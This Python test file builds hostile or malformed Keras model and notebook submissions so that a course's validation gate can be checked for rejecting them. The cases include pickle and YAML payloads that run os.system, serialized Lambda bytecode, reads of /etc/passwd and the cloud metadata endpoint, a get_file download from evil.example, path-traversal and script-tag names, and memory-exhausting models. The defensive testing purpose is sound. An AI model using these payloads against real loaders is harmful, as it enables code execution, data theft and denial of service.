"""Submissions with a bad architecture or bad code each: how it is made, and what the gate has to say.

A row of `BAD_MODELS` or `BAD_CODE` is a function that changes a valid submission's folder. `test_bad_architectures`
runs all through the functions of their kind, `test_bad_submissions` through the whole gate.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.course.submissions.bad_files import Bad, Change, flipped
from tests.course.submissions.keras_json import (
    Json,
    body,
    convolution,
    dense,
    functional,
    image,
    initializer,
    layer,
    sequential,
    tensor,
)
from tests.course.submissions.valid import NOTEBOOK

MODEL, NOTEBOOK_FILE, SCRIPT_FILE = "model.json", "train.ipynb", "train.py"
BYTECODE = ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwCpAk4=", None, None]

BAD_MODELS: list[Bad] = []
BAD_CODE: list[Bad] = []


def text(check: str) -> Callable[[Callable[[bytes], bytes]], Change]:
    """A row whose maker gives other bytes for the architecture."""

    def register(change: Callable[[bytes], bytes]) -> Change:
        def make(folder: Path) -> None:
            (folder / MODEL).write_bytes(change((folder / MODEL).read_bytes()))

        return _row(BAD_MODELS, check, change.__name__, make)

    return register


def document(check: str) -> Callable[[Callable[[], Any]], Change]:
    """A row whose maker gives another architecture."""

    def register(change: Callable[[], Any]) -> Change:
        def make(folder: Path) -> None:
            (folder / MODEL).write_text(json.dumps(change()), encoding="utf-8")

        return _row(BAD_MODELS, check, change.__name__, make)

    return register


def before_the_end(check: str) -> Callable[[Callable[[], Json]], Change]:
    """A row whose maker gives a layer that stands between the last maps ("relu") and the pooling."""

    def register(change: Callable[[], Json]) -> Change:
        def build() -> Json:
            *first, pool, end = body()
            extra = change()
            pool["inbound_nodes"] = [{"args": [tensor(extra["name"])], "kwargs": {}}]
            return functional([*first, extra, pool, end])

        build.__name__ = change.__name__
        return document(check)(build)

    return register


def notebook(check: str) -> Callable[[Callable[[], bytes]], Change]:
    """A row whose maker gives another notebook."""

    def register(change: Callable[[], bytes]) -> Change:
        def make(folder: Path) -> None:
            (folder / NOTEBOOK_FILE).write_bytes(change())

        return _row(BAD_CODE, check, change.__name__, make)

    return register


def script(check: str) -> Callable[[Callable[[], bytes]], Change]:
    """A row whose maker gives a script in the place of the notebook."""

    def register(change: Callable[[], bytes]) -> Change:
        def make(folder: Path) -> None:
            (folder / NOTEBOOK_FILE).unlink()
            (folder / SCRIPT_FILE).write_bytes(change())

        return _row(BAD_CODE, check, change.__name__, make)

    return register


def _row(rows: list[Bad], check: str, name: str, make: Change) -> Change:
    make.__name__ = name
    rows.append(Bad(check, make))
    return make


def renamed(name: Any) -> Json:
    """The valid model with another name of its first convolution, everywhere."""
    written = json.dumps(functional(body())).replace('"conv"', json.dumps(name))
    found: Json = json.loads(written)
    return found


def changed(part: str, **config: Any) -> Json:
    """The valid model with other arguments of one layer."""
    layers = body()
    next(entry for entry in layers if entry["name"] == part)["config"].update(config)
    return functional(layers)


# --- bytes that are no JSON document


@text("json-syntax")
def model_is_empty(data: bytes) -> bytes:
    return b""


@text("json-syntax")
def model_is_cut_off(data: bytes) -> bytes:
    return data[: len(data) // 2]


@text("json-syntax")
def model_is_two_documents(data: bytes) -> bytes:
    return data + data


@text("json-syntax")
def model_has_a_trailing_comma(data: bytes) -> bytes:
    return data[:-1] + b",}"


@text("json-syntax")
def model_has_comments(data: bytes) -> bytes:
    return b"// from Keras\n" + data


@text("json-syntax")
def model_is_yaml(data: bytes) -> bytes:
    return b"backend: tensorflow\nclass_name: !!python/object/apply:os.system ['id']\n"


@text("json-syntax")
def model_is_a_pickle(data: bytes) -> bytes:
    return b"cos\nsystem\n(S'id'\ntR."


@text("json-syntax")
def model_is_nul_bytes(data: bytes) -> bytes:
    return bytes(1000)


@text("json-syntax")
def model_ends_within_a_string_of_escapes(data: bytes) -> bytes:
    return b'{"name": "' + b'\\"' * 500_000


@text("json-encoding")
def model_has_a_flipped_byte(data: bytes) -> bytes:
    return flipped(data, data.index(b"Functional"))


@text("json-encoding")
def model_has_a_byte_order_mark(data: bytes) -> bytes:
    return b"\xef\xbb\xbf" + data


@text("json-encoding")
def model_is_utf_16(data: bytes) -> bytes:
    return data.decode().encode("utf-16")


@text("json-encoding")
def model_is_latin_1(data: bytes) -> bytes:
    return data.replace(b'"conv"', b'"\xe9t\xe9"')


@text("json-encoding")
def model_is_an_hdf5_file(data: bytes) -> bytes:
    return b"\x89HDF\r\n\x1a\n" + bytes(500)


@text("json-depth")
def model_is_ten_thousand_lists(data: bytes) -> bytes:
    return b"[" * 10_000 + b"]" * 10_000


@text("json-depth")
def model_opens_400_000_lists(data: bytes) -> bytes:
    return b"[" * 400_000


@text("json-depth")
def model_is_ten_thousand_objects(data: bytes) -> bytes:
    return b'{"config":' * 10_000 + b"{}" + b"}" * 10_000


@text("json-values")
def model_is_a_million_empty_lists(data: bytes) -> bytes:
    return b"[" + b"[]," * 600_000 + b"[]]"


@text("json-duplicate-key")
def model_says_its_class_twice(data: bytes) -> bytes:
    return data.replace(b'"class_name": "Dense"', b'"class_name": "Dense", "class_name": "Lambda"')


@text("json-duplicate-key")
def model_says_its_units_twice(data: bytes) -> bytes:
    return data.replace(b'"units": 1', b'"units": 1, "\\u0075nits": 100000000')


@text("json-number")
def model_holds_not_a_number(data: bytes) -> bytes:
    return data.replace(b'"offset": -1.0', b'"offset": NaN')


@text("json-number")
def model_holds_infinity(data: bytes) -> bytes:
    return data.replace(b'"offset": -1.0', b'"offset": -Infinity')


@text("json-number")
def model_holds_a_number_that_overflows(data: bytes) -> bytes:
    return data.replace(b'"offset": -1.0', b'"offset": 1e999')


@text("json-number")
def model_holds_an_integer_of_100_000_digits(data: bytes) -> bytes:
    return data.replace(b'"units": 1', b'"units": 1' + b"0" * 100_000)


@text("json-number")
def model_holds_an_integer_beyond_64_bits(data: bytes) -> bytes:
    return data.replace(b'"units": 1', b'"units": 36893488147419103232')


# --- JSON that is no model


@document("json-form")
def model_is_a_number() -> Any:
    return 1


@document("json-form")
def model_is_null() -> Any:
    return None


@document("json-form")
def model_is_a_list() -> Any:
    return [functional(body())]


@document("json-form")
def model_is_a_string_of_json() -> Any:
    return json.dumps(functional(body()))


@document("json-not-a-model")
def model_is_an_empty_object() -> Any:
    return {}


@document("json-not-a-model")
def model_is_a_layer() -> Any:
    return dense("probability")


@document("json-not-a-model")
def model_is_a_tokenizer() -> Any:
    return {"class_name": "Tokenizer", "config": {"num_words": None}}


@document("json-form")
def model_has_a_list_for_config() -> Any:
    return {**functional(body()), "config": body()}


@document("json-form")
def model_has_no_layers() -> Any:
    found = functional(body())
    del found["config"]["layers"]
    return found


@document("json-form")
def sequential_without_layers() -> Any:
    return sequential([])


@document("json-form")
def sequential_with_an_input_in_the_middle() -> Any:
    layers = body()
    return sequential([*layers[:3], image("second", (None, 16, 16, 8)), *layers[3:]])


@document("json-form")
def one_input_twice() -> Any:
    found = functional(body())
    found["config"]["input_layers"] = [["image", 0, 0], ["image", 0, 0]]
    return found


@before_the_end("json-form")
def operation_with_two_thousand_slices() -> Json:
    found = layer("GetItem", "item", module="keras.src.ops.numpy")
    found["config"] = {"name": "item"}
    every = {"class_name": "__slice__", "config": {"start": None, "stop": None, "step": None}}
    return {**found, "inbound_nodes": [{"args": [tensor("relu"), [every] * 2000], "kwargs": {}}]}


@document("json-form")
def a_layer_that_is_a_string() -> Any:
    return functional([image(), "Dense"], output="image")  # type: ignore[list-item]


@document("json-form")
def a_layer_whose_config_is_a_list() -> Any:
    layers = body()
    layers[-1]["config"] = []
    return functional(layers)


@document("json-form")
def a_layer_with_calls_that_are_no_list() -> Any:
    layers = body()
    layers[-1]["inbound_nodes"] = {"args": []}
    return functional(layers)


@document("json-form")
def a_layer_with_an_unknown_key() -> Any:
    layers = body()
    layers[-1]["__reduce__"] = "os.system"
    return functional(layers)


@document("json-form")
def trainable_that_is_a_string() -> Any:
    return changed("conv", trainable="yes")


# --- code, files, vocabularies, foreign objects


@before_the_end("layer-code")
def lambda_of_keras_3() -> Json:
    code = {"class_name": "__lambda__", "config": {"code": BYTECODE[0], "defaults": None, "closure": None}}
    return layer("Lambda", "lambda", "relu", function=code, arguments={})


@before_the_end("layer-code")
def lambda_of_keras_2() -> Json:
    return layer("Lambda", "lambda", "relu", function=BYTECODE, function_type="lambda", module="__main__")


@before_the_end("layer-code")
def lambda_of_a_stock_function() -> Json:
    function = {"module": "keras.ops", "class_name": "function", "config": "relu", "registered_name": "relu"}
    return layer("Lambda", "lambda", "relu", function=function)


@before_the_end("layer-code")
def lambda_without_a_module() -> Json:
    found = layer("Lambda", "lambda", "relu", function=BYTECODE)
    del found["module"]
    return found


@before_the_end("layer-code")
def lambda_in_a_nested_model() -> Json:
    inner = sequential([image("inner", (None, 16, 16, 8)), layer("Lambda", "lambda", "inner", function=BYTECODE)])
    return {**inner, "name": "sequential", "inbound_nodes": [{"args": [tensor("relu")], "kwargs": {}}]}


@before_the_end("layer-code")
def lambda_in_time_distributed() -> Json:
    return layer("TimeDistributed", "each", "relu", layer=layer("Lambda", "lambda", function=BYTECODE))


@before_the_end("layer-code")
def lambda_in_a_wrapper_in_a_wrapper() -> Json:
    inner = layer("Wrapper", "inner", layer=layer("Lambda", "lambda", function=BYTECODE))
    return layer("SpectralNormalization", "outer", "relu", layer=inner)


@before_the_end("layer-code")
def lambda_as_an_activation() -> Json:
    return layer("Activation", "active", "relu", activation=layer("Lambda", "lambda", function=BYTECODE))


@before_the_end("layer-code")
def bytecode_as_an_activation() -> Json:
    return layer("Activation", "active", "relu", activation={"class_name": "__lambda__", "config": {"value": "4wEA"}})


@before_the_end("layer-code")
def bytecode_as_an_initializer() -> Json:
    found = convolution("more", "relu")
    found["config"]["kernel_initializer"] = {"class_name": "__lambda__", "config": {"value": "4wEA"}}
    return found


@before_the_end("layer-code")
def bytecode_in_an_argument_of_a_call() -> Json:
    found = layer("Dropout", "drop", "relu", rate=0.5, seed=None, noise_shape=None)
    found["inbound_nodes"][0]["kwargs"] = {"training": {"class_name": "__lambda__", "config": {"value": "4wEA"}}}
    return found


@before_the_end("layer-code")
def torch_module() -> Json:
    return layer("TorchModuleWrapper", "torch", "relu", module={"class_name": "__bytes__", "config": {"value": "gASV"}})


@before_the_end("layer-code")
def flax_module() -> Json:
    return layer("FlaxLayer", "flax", "relu", module="x", method=None)


@before_the_end("layer-code")
def jax_function() -> Json:
    return layer("JaxLayer", "jax", "relu", call_fn="x", init_fn="y")


@before_the_end("layer-code")
def tensorflow_operator_of_keras_2() -> Json:
    return layer("TFOpLambda", "tf.math.multiply", "relu", function="math.multiply")


@before_the_end("layer-file")
def saved_model_layer() -> Json:
    return layer("TFSMLayer", "saved", "relu", filepath="/etc", call_endpoint="serve")


@before_the_end("layer-vocabulary")
def string_lookup_of_a_file() -> Json:
    return layer("StringLookup", "lookup", "relu", vocabulary="/etc/passwd", max_tokens=None)


@before_the_end("layer-vocabulary")
def string_lookup_of_an_address() -> Json:
    return layer("StringLookup", "lookup", "relu", vocabulary="http://169.254.169.254/latest/meta-data")


@before_the_end("layer-vocabulary")
def integer_lookup() -> Json:
    return layer("IntegerLookup", "lookup", "relu", vocabulary="../../labels.parquet")


@before_the_end("layer-vocabulary")
def text_vectorization() -> Json:
    return layer("TextVectorization", "text", "relu", vocabulary="/etc/passwd")


@before_the_end("layer-custom")
def function_of_module_os() -> Json:
    function = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    return layer("Activation", "active", "relu", activation=function)


@before_the_end("layer-custom")
def class_of_module_subprocess() -> Json:
    return layer("Popen", "opened", "relu", module="subprocess", args=["id"])


@before_the_end("layer-custom")
def class_of_the_students_own_module() -> Json:
    return layer("MyLayer", "mine", "relu", module="__main__")


@before_the_end("layer-custom")
def module_that_begins_like_keras() -> Json:
    return layer("Dense", "kerasx", "relu", module="keras_evil.layers", units=8)


@before_the_end("layer-custom")
def module_that_is_no_string() -> Json:
    return layer("ReLU", "odd", "relu", module=["keras.layers"])  # type: ignore[arg-type]


@before_the_end("layer-custom")
def registered_object_of_a_package() -> Json:
    return {**layer("ReLU", "mine", "relu"), "registered_name": "my_package>ReLU"}


@before_the_end("layer-argument")
def get_file_as_an_activation() -> Json:
    function = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    return layer("Activation", "active", "relu", activation=function)


@before_the_end("layer-unknown")
def get_file_as_a_layer() -> Json:
    return layer("get_file", "fetched", "relu", module="keras.utils", origin="http://evil.example/x.tar", extract=True)


@before_the_end("layer-unknown")
def load_model_as_a_layer() -> Json:
    return layer("load_model", "loaded", "relu", module="keras.models", filepath="/etc/x.keras", safe_mode=False)


@before_the_end("layer-unknown")
def switch_off_safe_mode_as_a_layer() -> Json:
    return layer("enable_unsafe_deserialization", "unsafe", "relu", module="keras.config")


@before_the_end("layer-unknown")
def class_that_does_not_exist() -> Json:
    return layer("Conv2d", "typo", "relu", filters=8)


@before_the_end("layer-unknown")
def stock_layer_of_another_module() -> Json:
    return layer("ReLU", "odd", "relu", module="keras.src.layers.core.lambda_layer")


@before_the_end("layer-unknown")
def wrapper_of_a_stock_layer() -> Json:
    return layer("TimeDistributed", "each", "relu", layer=dense("inner", units=8))


@document("layer-unknown")
def model_of_another_module() -> Any:
    return {**functional(body()), "module": "keras.src.saving.saving_lib"}


@document("compile-config")
def compiled_with_a_custom_loss() -> Any:
    loss = {"module": "builtins", "class_name": "function", "config": "my_loss", "registered_name": "mine>my_loss"}
    return {**functional(body()), "compile_config": {"optimizer": "adam", "loss": loss}}


@document("compile-config")
def compiled_with_a_layer_as_loss() -> Any:
    loss = {"module": "keras", "class_name": "Sequential", "config": {"layers": [dense("huge", units=10**9)]}}
    return {**functional(body()), "compile_config": {"optimizer": "adam", "loss": loss}}


@document("compile-config")
def compiled_with_a_layer_of_no_module_as_metric() -> Any:
    metrics = [{"class_name": "Dense", "config": {"units": 10**9}, "build_config": {"input_shape": [1, 10**9]}}]
    return {**functional(body()), "compile_config": {"optimizer": "adam", "metrics": metrics}}


@before_the_end("compile-config")
def compiled_layer() -> Json:
    loss = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 10**9}}
    return {**layer("Activation", "act", "relu", activation="relu"), "compile_config": {"loss": loss}}


@document("compile-config")
def compiled_with_a_lambda() -> Any:
    loss = {"class_name": "__lambda__", "config": {"value": "4wEA"}}
    return {**functional(body()), "compile_config": {"optimizer": "adam", "loss": loss}}


# --- names


@document("name-characters")
def name_that_leaves_the_folder() -> Any:
    return renamed("../../etc/cron.d/job")


@document("name-characters")
def name_with_dots_within() -> Any:
    return renamed("conv/../../labels")


@document("name-characters")
def name_of_an_absolute_path() -> Any:
    return renamed("/etc/passwd")


@document("name-characters")
def name_with_a_new_line() -> Any:
    return renamed("conv\n[passed]")


@document("name-characters")
def name_that_turns_the_direction_of_text() -> Any:
    return renamed("conv\u202egnp.exe")


@document("name-characters")
def name_with_nul() -> Any:
    return renamed("conv\0")


@document("name-characters")
def name_with_half_a_letter() -> Any:
    return renamed("conv\ud800")


@document("name-characters")
def name_of_ten_thousand_letters() -> Any:
    return renamed("c" * 10_000)


@document("name-characters")
def name_that_is_html() -> Any:
    return renamed("<script>alert(1)</script>")


@document("name-characters")
def name_that_is_empty() -> Any:
    return renamed("")


@document("name-characters")
def name_that_is_a_number() -> Any:
    return changed("conv", name=7)


@document("name-duplicate")
def two_layers_of_one_name() -> Any:
    layers = body()
    return functional([*layers[:-1], layers[-2], layers[-1]])


# --- arguments


@document("layer-argument")
def units_that_are_a_string() -> Any:
    return changed("probability", units="1")


@document("layer-argument")
def units_that_are_true() -> Any:
    return changed("probability", units=True)


@document("layer-argument")
def units_that_are_a_fraction() -> Any:
    return changed("probability", units=1.5)


@document("layer-argument")
def no_units() -> Any:
    layers = body()
    del layers[-1]["config"]["units"]
    return functional(layers)


@document("layer-argument")
def negative_kernel() -> Any:
    return changed("conv", kernel_size=[-3, 3])


@document("layer-argument")
def zero_stride() -> Any:
    return changed("conv", strides=[0, 0])


@document("layer-argument")
def huge_filters() -> Any:
    return changed("conv", filters=2**40)


@document("layer-argument")
def channels_first() -> Any:
    return changed("conv", data_format="channels_first")


@document("layer-argument")
def unknown_argument() -> Any:
    return changed("conv", lora_rank=4)


@document("layer-argument")
def unknown_activation() -> Any:
    return changed("probability", activation="eval")


@document("layer-argument")
def unknown_initializer() -> Any:
    return changed("conv", kernel_initializer=initializer("FromFile", path="/etc/passwd"))


@document("layer-argument")
def initializer_with_a_path() -> Any:
    return changed("conv", kernel_initializer=initializer("Constant", value="/etc/passwd"))


@document("layer-argument")
def regularizer_of_another_module() -> Any:
    found = {"module": "keras.utils", "class_name": "L2", "config": {"l2": 0.01}, "registered_name": None}
    return changed("conv", kernel_regularizer=found)


@document("layer-argument")
def dtype_of_float64() -> Any:
    return changed("conv", dtype="float64")


@document("layer-argument")
def numbers_that_are_no_array() -> Any:
    return changed("scale", scale=[[1.0, 2.0], [3.0]])


# --- shapes and graphs


@document("layer-shape")
def kernel_larger_than_the_picture() -> Any:
    return changed("conv", kernel_size=[33, 33], padding="valid")


@document("layer-shape")
def kernel_of_three_sides() -> Any:
    return changed("conv", kernel_size=[3, 3, 3])


@document("layer-shape")
def groups_that_do_not_divide() -> Any:
    return changed("conv", groups=2)


@before_the_end("layer-shape")
def reshape_to_another_number_of_values() -> Json:
    return layer("Reshape", "shaped", "relu", target_shape=[7, 7, 7])


@before_the_end("layer-shape")
def crop_of_everything() -> Json:
    return layer("Cropping2D", "cropped", "relu", cropping=[[8, 8], [8, 8]], data_format="channels_last")


@before_the_end("layer-shape")
def sum_of_shapes_that_do_not_go_together() -> Json:
    return layer("Add", "sum", "relu", "image")


@before_the_end("layer-shape")
def axis_of_the_batch() -> Json:
    return layer("BatchNormalization", "odd", "relu", axis=0)


@document("layer-shape")
def shared_layer_for_two_shapes() -> Any:
    shared = convolution("shared", "image")
    shared["inbound_nodes"].append({"args": [tensor("wide")], "kwargs": {}})
    pool = layer("GlobalAveragePooling2D", "pool", "shared", data_format="channels_last", keepdims=False)
    pool["inbound_nodes"] = [{"args": [tensor("shared", 1)], "kwargs": {}}]
    return functional([image(), shared, convolution("wide", "shared", filters=4), pool, dense("end", "pool")])


@document("graph-cycle")
def graph_with_a_loop() -> Any:
    layers = body()
    layers[2]["inbound_nodes"] = [{"args": [tensor("relu")], "kwargs": {}}]
    return functional(layers)


@document("graph-cycle")
def layer_that_takes_its_own_result() -> Any:
    layers = body()
    layers[-1]["inbound_nodes"] = [{"args": [tensor("probability")], "kwargs": {}}]
    return functional(layers)


@document("graph-missing-layer")
def input_from_a_layer_that_is_not_there() -> Any:
    layers = body()
    layers[-1]["inbound_nodes"] = [{"args": [tensor("nothing")], "kwargs": {}}]
    return functional(layers)


@document("graph-missing-layer")
def input_from_a_call_that_is_not_there() -> Any:
    layers = body()
    layers[-1]["inbound_nodes"] = [{"args": [tensor("pool", 7)], "kwargs": {}}]
    return functional(layers)


@document("graph-missing-layer")
def input_from_an_output_that_is_not_there() -> Any:
    layers = body()
    layers[-1]["inbound_nodes"] = [{"args": [tensor("pool", 0, 1)], "kwargs": {}}]
    return functional(layers)


@document("graph-missing-layer")
def output_of_a_layer_that_is_not_there() -> Any:
    return functional(body(), output="nothing")


@document("json-form")
def negative_call() -> Any:
    layers = body()
    layers[-1]["inbound_nodes"] = [{"args": [tensor("pool", -1)], "kwargs": {}}]
    return functional(layers)


@document("graph-unused-layer")
def huge_layer_that_nothing_depends_on() -> Any:
    return functional([*body(), dense("bomb", "pool", units=100_000_000)], output="probability")


@document("json-form")
def input_that_is_called() -> Any:
    layers = body()
    layers[0]["inbound_nodes"] = [{"args": [tensor("pool")], "kwargs": {}}]
    return functional(layers)


@document("build-config")
def built_for_a_billion_features() -> Any:
    layers = body()
    layers[-1]["build_config"] = {"input_shape": [None, 1_000_000_000]}
    return functional(layers)


@document("build-config")
def sequential_built_for_another_input() -> Any:
    found = sequential(body())
    found["config"]["build_input_shape"] = [None, 100_000, 100_000, 3]
    return found


# --- input and output


@document("model-input")
def input_of_any_size() -> Any:
    return functional([image(shape=(None, None, None, 3)), *body()[1:]])


@document("model-input")
def input_with_a_fixed_batch() -> Any:
    return functional([image(shape=(1, 32, 32, 3)), *body()[1:]])


@document("model-input")
def input_that_is_no_picture() -> Any:
    return functional([image(shape=(None, 8)), dense("probability", "image")])


@document("model-input")
def two_inputs() -> Any:
    layers = body()
    second = image("second", (None, 8))
    both = layer("Concatenate", "both", "pool", "second", axis=-1)
    found = functional([layers[0], second, *layers[1:-1], both, dense("probability", "both")])
    found["config"]["input_layers"].append(["second", 0, 0])
    return found


@document("json-form")
def input_of_no_size() -> Any:
    return functional([image(shape=(None, 0, 0, 3)), *body()[1:]])


@document("model-output")
def output_of_two_units() -> Any:
    return functional([*body()[:-1], dense("probabilities", "pool", units=2, activation="softmax")])


@document("model-output")
def two_outputs() -> Any:
    found = functional([*body(), dense("second", "pool")])
    found["config"]["output_layers"] = [["probability", 0, 0], ["second", 0, 0]]
    return found


@document("model-output")
def output_that_is_a_map() -> Any:
    return functional([image(), convolution("map", "image", filters=1)])


# --- budgets


@document("budget-parameters")
def dense_of_a_hundred_million_units() -> Any:
    layers = body()
    return functional([*layers[:-1], dense("bomb", "pool", units=100_000_000), dense("probability", "bomb")])


@document("budget-parameters")
def flatten_and_dense() -> Any:
    flat = layer("Flatten", "flat", "image", data_format="channels_last")
    layers = [image(shape=(None, 1024, 1024, 3)), flat, dense("bomb", "flat", units=1000)]
    return functional([*layers, dense("probability", "bomb")])


@document("budget-parameters")
def two_layers_of_the_largest_size() -> Any:
    return functional(
        [*body()[:-1], dense("a", "pool", units=2**31 - 1), dense("b", "a", units=2**31 - 1), dense("end", "b")]
    )


@document("budget-activation")
def upsampling_by_400() -> Any:
    *first, pool, end = body()
    up = layer("UpSampling2D", "up", "relu", size=[400, 400], data_format="channels_last", interpolation="nearest")
    pool["inbound_nodes"] = [{"args": [tensor("up")], "kwargs": {}}]
    return functional([*first, up, pool, end])


@before_the_end("budget-activation")
def transposed_convolution_with_huge_strides() -> Json:
    found = convolution("bomb", "relu", filters=1, kernel=1, strides=1000)
    return {**found, "class_name": "Conv2DTranspose"}


@before_the_end("budget-activation")
def padding_by_100_000() -> Json:
    return layer("ZeroPadding2D", "padded", "relu", padding=[[100_000] * 2] * 2, data_format="channels_last")


@before_the_end("budget-activation")
def resizing_to_100_000() -> Json:
    return layer("Resizing", "resized", "relu", height=100_000, width=100_000, interpolation="bilinear")


@document("budget-activation")
def picture_of_30_000_pixels_a_side() -> Any:
    return functional([image(shape=(None, 30_000, 30_000, 3)), *body()[1:]])


@document("budget-activation")
def broadcast_of_a_column_and_a_row() -> Any:
    column = layer("Reshape", "column", "image", target_shape=[10_000, 1])
    row = layer("Reshape", "row", "image", target_shape=[1, 10_000])
    product = layer("Multiply", "product", "column", "row")
    pool = layer("GlobalAveragePooling1D", "pool", "product", data_format="channels_last", keepdims=False)
    return functional([image(shape=(None, 100, 100, 1)), column, row, product, pool, dense("end", "pool")])


@document("budget-activation")
def attention_between_all_pixels() -> Any:
    places = layer("Reshape", "places", "image", target_shape=[90_000, 1])
    attend = layer("Attention", "attend", "places", "places", use_scale=False, score_mode="dot", dropout=0.0)
    pool = layer("GlobalAveragePooling1D", "pool", "attend", data_format="channels_last", keepdims=False)
    return functional([image(shape=(None, 300, 300, 1)), places, attend, pool, dense("end", "pool")])


@document("budget-multiply-adds")
def convolutions_of_large_maps() -> Any:
    layers = [image(shape=(None, 256, 256, 3))]
    layers += [convolution(f"c{i}", layers[-1]["name"] if i == 0 else f"c{i - 1}", filters=128) for i in range(40)]
    pool = layer("GlobalAveragePooling2D", "pool", "c39", data_format="channels_last", keepdims=False)
    return functional([*layers, pool, dense("end", "pool")])


@document("budget-multiply-adds")
def shared_convolution_called_400_times() -> Any:
    first = convolution("first", "image", filters=128)
    shared = convolution("shared", "first", filters=128)
    shared["inbound_nodes"] += [{"args": [tensor("shared", number)], "kwargs": {}} for number in range(400)]
    pool = layer("GlobalAveragePooling2D", "pool", "shared", data_format="channels_last", keepdims=False)
    pool["inbound_nodes"] = [{"args": [tensor("shared", 400)], "kwargs": {}}]
    return functional([image(shape=(None, 128, 128, 3)), first, shared, pool, dense("end", "pool")])


@before_the_end("budget-operations")
def pooling_window_of_the_whole_map_everywhere() -> Json:
    window = [10_000, 10_000]
    return layer("MaxPooling2D", "slow", "relu", pool_size=window, strides=[1, 1], padding="same")


@document("budget-layers")
def three_thousand_layers() -> Any:
    layers = [image()]
    for number in range(3000):
        layers.append(layer("ReLU", f"relu{number}", layers[-1]["name"]))
    pool = layer("GlobalAveragePooling2D", "pool", "relu2999", data_format="channels_last", keepdims=False)
    return functional([*layers, pool, dense("end", "pool")])


@document("json-depth")
def three_hundred_nested_sequentials() -> Any:
    inner = sequential([image(), layer("ReLU", "relu", "image")])
    for number in range(300):
        inner = sequential([image(f"image{number}"), inner], name=f"sequential{number}")
    return inner


@document("budget-calls")
def models_that_call_the_inner_one_twice() -> Any:
    """2¹⁴ calls in 14 layers: Keras would walk each of them while it loads."""
    inner = functional([image("inner"), layer("ReLU", "relu", "inner")], name="m0")
    for number in range(1, 14):
        twice = {
            **inner,
            "name": inner["config"]["name"],
            "inbound_nodes": [
                {"args": [tensor(f"in{number}")], "kwargs": {}},
                {"args": [tensor(inner["config"]["name"], 0)], "kwargs": {}},
            ],
        }
        inner = functional([image(f"in{number}"), twice], name=f"m{number}")
        inner["config"]["output_layers"] = [[twice["name"], 2, 0]]
    return inner


# --- code


@notebook("json-syntax")
def notebook_is_a_script() -> bytes:
    return b"import keras\n"


@notebook("json-depth")
def notebook_is_ten_thousand_lists() -> bytes:
    return b"[" * 10_000


@notebook("notebook-format")
def notebook_is_another_json() -> bytes:
    return json.dumps(functional(body())).encode()


@notebook("notebook-format")
def notebook_is_a_list() -> bytes:
    return b"[]"


@notebook("notebook-format")
def notebook_of_format_3() -> bytes:
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": []}).encode()


@notebook("notebook-format")
def notebook_whose_cells_are_numbers() -> bytes:
    return json.dumps({**NOTEBOOK, "cells": [1, 2]}).encode()


@notebook("notebook-format")
def notebook_whose_source_is_an_object() -> bytes:
    return json.dumps({**NOTEBOOK, "cells": [{**NOTEBOOK["cells"][0], "source": {}}]}).encode()


@notebook("notebook-empty")
def notebook_without_code() -> bytes:
    cell = {"cell_type": "markdown", "id": "a", "metadata": {}, "source": "# Person"}
    return json.dumps({**NOTEBOOK, "cells": [cell]}).encode()


@notebook("notebook-empty")
def notebook_of_blank_cells() -> bytes:
    return json.dumps({**NOTEBOOK, "cells": [{**NOTEBOOK["cells"][0], "source": ["  \n", "\t"]}]}).encode()


@script("script-syntax")
def script_with_a_syntax_error() -> bytes:
    return b"def train(:\n    pass\n"


@script("script-syntax")
def script_with_nul_bytes() -> bytes:
    return b"x = 1\0\n"


@script("script-syntax")
def script_that_is_no_text() -> bytes:
    return bytes(range(128, 256))


@script("script-syntax")
def script_of_an_unknown_encoding() -> bytes:
    return b"# -*- coding: no-such-codec -*-\nx = 1\n"


@script("script-syntax")
def script_of_ten_thousand_parentheses() -> bytes:
    return b"(" * 10_000 + b"1" + b")" * 10_000


@script("script-depth")
def script_of_a_hundred_thousand_signs() -> bytes:
    return b"-" * 100_000 + b"1"


@script("script-depth")
def script_of_a_long_chain() -> bytes:
    return b"a" + b".b" * 100_000


@script("script-empty")
def script_that_is_empty() -> bytes:
    return b"# to do\n"
